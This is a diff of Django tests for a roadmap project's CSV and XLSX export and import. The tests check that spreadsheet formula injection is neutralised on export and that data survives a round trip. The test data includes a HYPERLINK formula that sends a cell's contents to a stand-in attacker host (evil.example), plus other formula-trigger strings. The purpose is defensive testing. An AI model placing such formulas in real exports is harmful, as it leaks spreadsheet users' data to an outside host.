@@ -147,3 +147,48 @@ def test_another_chantiers_coordinator_can_neither_export_nor_import(client, out
     ]
     assertContains(import_file(client, laval, spreadsheets.to_csv(rows), "r.csv"), "Not Found", status_code=404)
     assert not RoadmapAction.objects.filter(title_fr="Intrus").exists()
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1"]
+
+
+def formula_actions(chantier) -> list[RoadmapAction]:
+    action = chantier.actions.first()
+    actions = []
+    for n, text in enumerate(FORMULAS):
+        action.pk = None
+        action.title = text
+        action.description = text
+        action.order = 100 + n
+        action.save()
+        actions.append(RoadmapAction.objects.get(pk=action.pk))
+    return actions
+
+
+def test_the_xlsx_export_holds_no_formula_and_keeps_the_text_as_typed(client, owner, laval):
+    formula_actions(laval)
+    client.force_login(owner)
+    sheet = load_workbook(io.BytesIO(export(client, laval, "xlsx"))).active  # formulas are kept, not evaluated
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    titles = [row[2].value for row in sheet.iter_rows(min_row=2)]
+    assert set(FORMULAS) <= set(titles)  # stored as text, exactly as typed
+
+
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(client, owner, laval):
+    formula_actions(laval)
+    client.force_login(owner)
+    rows = csv_rows(export(client, laval, "csv"))
+    titles = [row[2] for row in rows[1:]]
+    assert not [title for title in titles if title[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert {"'" + text for text in FORMULAS} <= set(titles)
+
+
+def test_neutralised_exports_come_back_in_unchanged(client, owner, laval):
+    formula_actions(laval)
+    client.force_login(owner)
+    before = list(RoadmapAction.objects.filter(chantier=laval).values().order_by("pk"))
+    for fmt in ["csv", "xlsx"]:
+        response = import_file(client, laval, export(client, laval, fmt), f"roadmap.{fmt}")
+        assert response.status_code == 302, response.content.decode()[:2000]
+    assert list(RoadmapAction.objects.filter(chantier=laval).values().order_by("pk")) == before
